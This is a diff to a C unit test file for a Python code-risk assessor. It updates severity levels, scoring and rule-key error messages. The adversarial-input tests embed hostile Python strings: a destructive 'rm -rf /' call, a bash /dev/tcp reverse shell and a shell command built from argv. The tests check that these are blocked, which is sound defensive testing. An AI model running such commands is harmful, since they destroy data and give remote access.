@@ -48,7 +48,8 @@ static void test_levels_and_finding_fields(void **state)
 	assess_result_clear(&r);
 
 	assess(rules, "import subprocess as sp\n\nsp.run('x', shell=True)\n", &r);
-	assert_int_equal(r.level, LEVEL_HIGH);
+	/* a literal command in a capability-less container: contained */
+	assert_int_equal(r.level, LEVEL_MEDIUM);
 	/* B404 import, B602 shell, B603 run, B607 'x' is looked up in PATH */
 	assert_int_equal(r.n_findings, 4);
 	assert_string_equal(r.findings[3].rule_id, "MAI091");
@@ -63,9 +64,11 @@ static void test_levels_and_finding_fields(void **state)
 	assert_int_equal(f->line, 3);
 	assert_int_equal(f->col, 4);
 	assert_string_equal(f->message, "subprocess call with shell=True: the command goes through the shell");
-	/* 70 for the highest (literal arguments: no origin weight), plus a
-	 * tenth of 70, 10 and 10 */
-	assert_true(r.score > 78.9 && r.score < 79.1);
+	assert_int_equal(f->contained, ASSESS_CONTAINED_PROCESS);
+	/* contained: 40 (MEDIUM x HIGH) for the highest (literal arguments:
+	 * no origin weight), plus a tenth of 40, 10 and 10 */
+	assert_true(r.score > 45.9 && r.score < 46.1);
+	assert_null(r.reason); /* it runs: nothing to look at first */
 	assess_result_clear(&r);
 
 	assess(rules, "with open('notes.txt', 'a') as f:\n    f.write('x')\n", &r);
@@ -382,7 +385,7 @@ static void test_rule_errors_are_positioned(void **state)
 {
 	expect_error(*state, "rules:\n  - id: X1\n    sevrity: HIGH\n",
 		     "3:5: unknown rule key; expected id, bandit, match, severity, confidence, cwe, "
-		     "message, block, enabled, weight or origin_weights");
+		     "message, block, enabled, weight, origin_weights or contained");
 	expect_error(*state, "rules:\n  - {id: MAI001, severity: SEVERE}\n",
 		     "2:28: unknown level; expected LOW, MEDIUM, HIGH or CRITICAL");
 	expect_error(*state, "rules:\n  - id: X2\n    severity: LOW\n    message: m\n",
@@ -391,7 +394,8 @@ static void test_rule_errors_are_positioned(void **state)
 	expect_error(*state, "rules:\n  - {id: X3, match: {calls: [a]}}\n",
 		     "2:22: unknown match key; expected call, import, special, dynamic, in_loop, "
 		     "kwarg, unless_kwarg, write_mode, path, arg_contains, arg_ref, not_call, "
-		     "kwarg_true, has_kwarg, lacks_kwarg, mode, partial_path, arg_glob or string");
+		     "kwarg_true, has_kwarg, lacks_kwarg, mode, partial_path, arg_glob, string, taint, "
+		     "not_arg_ref, program or decoded");
 	expect_error(*state, "rules: {}\n", "1:8: rules is not a list; expected a list of rules (- id: ...)");
 	expect_error(*state, "rules:\n  - {id: MAI001, message: [a, b]}\n",
 		     "2:27: not a single value; expected a scalar");
@@ -436,9 +440,9 @@ static void test_adversarial_inputs_stay_linear(void **state)
 	n = 5;
 	memset(buf + n, 'a', big);
 	n += big;
-	n += (size_t)sprintf(buf + n, "'; import os; os.system(x)\n");
+	n += (size_t)sprintf(buf + n, "'; import os, sys; os.system(x + sys.argv[1])\n");
 	assess_source(rules, "t.py", (const uint8_t *)buf, n, &r);
-	assert_int_equal(r.level, LEVEL_HIGH);
+	assert_int_equal(r.level, LEVEL_HIGH); /* outside data reaches a shell: MAI102 */
 	assert_int_equal(r.metrics.lines, 1);
 	assess_result_clear(&r);
 
@@ -450,9 +454,9 @@ static void test_adversarial_inputs_stay_linear(void **state)
 	buf[n++] = '1';
 	for (int i = 0; i < 100000; i++)
 		buf[n++] = ')';
-	n += (size_t)sprintf(buf + n, "\nos.system('id')\n");
+	n += (size_t)sprintf(buf + n, "\nos.system('rm -rf /')\n");
 	assess_source(rules, "t.py", (const uint8_t *)buf, n, &r);
-	assert_int_equal(r.level, LEVEL_HIGH);
+	assert_int_equal(r.level, LEVEL_BLOCKED); /* MAI109 */
 	assert_int_equal(r.findings[0].line, 3);
 	assess_result_clear(&r);
 
@@ -460,12 +464,12 @@ static void test_adversarial_inputs_stay_linear(void **state)
 	n = (size_t)sprintf(buf, "import os\nx = ");
 	for (int i = 0; i < 5000; i++)
 		buf[n++] = '[';
-	n += (size_t)sprintf(buf + n, "os.system('id')");
+	n += (size_t)sprintf(buf + n, "os.system('bash -i >& /dev/tcp/h/1 0>&1')");
 	for (int i = 0; i < 5000; i++)
 		buf[n++] = ']';
 	buf[n++] = '\n';
 	assess_source(rules, "t.py", (const uint8_t *)buf, n, &r);
-	assert_int_equal(r.level, LEVEL_HIGH);
+	assert_int_equal(r.level, LEVEL_BLOCKED); /* MAI107 */
 	assess_result_clear(&r);
 	free(buf);
 
@@ -479,7 +483,7 @@ static void test_adversarial_inputs_stay_linear(void **state)
 	assess_source(rules, "t.py", (const uint8_t *)buf, n, &r);
 	assert_int_equal(r.metrics.lines, 1000001);
 	assert_int_equal(r.metrics.statements, 1000001);
-	assert_int_equal(r.level, LEVEL_HIGH);
+	assert_int_equal(r.level, LEVEL_MEDIUM); /* eval of a value nobody typed in: contained */
 	assert_int_equal(r.findings[0].line, 1000001);
 	assess_result_clear(&r);
 	free(buf);
